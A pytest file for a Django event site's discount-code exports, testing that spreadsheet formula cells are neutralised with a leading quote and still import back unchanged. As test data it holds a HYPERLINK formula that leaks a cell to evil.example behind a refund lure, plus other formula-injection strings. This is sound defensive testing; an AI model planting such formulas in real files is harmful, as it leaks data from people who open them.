"""Exports neutralise formula cells (issue 12, attack 9): a ticket name or a code that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written so that no spreadsheet runs it, by the admin's export and by
``manage.py export_codes`` alike (one rule, ``eventsite.rules.spreadsheet_safe``); numbers stay numbers, and an
exported file imports back unchanged."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from discounts import csv_format, imports, rules
from eventsite.rules import spreadsheet_safe, spreadsheet_text
from eventsite.tests.factories import TicketFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your refund")'

FORMULAE = [HYPERLINK, "=1+2", "+1+2", "-2+3", "-A1", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "=", "-", "+", "@"]
PLAIN = ["EARLY", "", "5.00", "-5.00", "-5", "+3", "12", "-0.5", ".5", "'quoted", "Early bird", "a=b", "x-1"]


@pytest.mark.parametrize("cell", FORMULAE)
def test_a_formula_is_written_as_text(cell):
    safe = spreadsheet_safe(cell)
    assert safe == "'" + cell
    assert spreadsheet_safe(safe) == safe  # once is enough
    assert spreadsheet_text(safe) == cell  # and an import reads the value back


@pytest.mark.parametrize("cell", PLAIN)
def test_numbers_and_plain_text_are_left_alone(cell):
    assert spreadsheet_safe(cell) == cell
    assert spreadsheet_text(cell) == cell


@pytest.fixture
def hostile(event):
    """A code and a ticket whose texts are formulae, and a plain code beside them."""
    ticket = TicketFactory(event=event, name=HYPERLINK, price=Decimal("50.00"))
    minus = TicketFactory(event=event, name="-2+3", price=Decimal("40.00"))
    code = rules.create_code(event=event, code="=1+2", value=Decimal("5"), used_for="ticket", tickets=[ticket, minus])
    rules.create_code(event=event, code="PLAIN", value=Decimal("10"), used_for="event", tickets_number=3)
    return code


def cells(text: str) -> dict[str, dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return {row["code"]: row for row in rows}


def assert_neutralised(text: str):
    rows = cells(text)
    assert set(rows) == {"'=1+2", "PLAIN"}
    assert rows["'=1+2"]["tickets"] == "'" + HYPERLINK + "|-2+3"  # only a cell's first character matters
    assert rows["PLAIN"]["value"] == "10.00" and rows["PLAIN"]["tickets_number"] == "3"  # numbers as they were
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(tuple("=+-@\t\r")), cell


@pytest.mark.django_db
def test_export_codes_writes_no_formula(event, hostile, tmp_path):
    out = io.StringIO()
    call_command("export_codes", event.identifier, stdout=out, stderr=io.StringIO())
    assert_neutralised(out.getvalue())


@pytest.mark.django_db
def test_the_admin_export_writes_no_formula(client, organizer, event, hostile):
    from discounts.admin_campaigns import DiscountCodeCsvResource

    client.force_login(organizer)
    fields = {f"discountcodecsvresource_{c}": "on" for c in DiscountCodeCsvResource.Meta.fields}
    response = client.post(reverse("admin:discounts_discountcode_export"), {"format": "0", **fields})
    assert response.status_code == 200
    text = response.content.decode().replace("\r\n", "\n")
    assert_neutralised(text)
    assert text == csv_format.export_csv(event)  # the same file as the command's


@pytest.mark.django_db
def test_an_exported_file_imports_back_unchanged(event, hostile):
    exported = csv_format.export_csv(event)
    summary = imports.import_codes(event=event, table=csv_format.read_csv(exported))
    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 2)
    assert sorted(hostile.tickets.values_list("name", flat=True)) == sorted([HYPERLINK, "-2+3"])
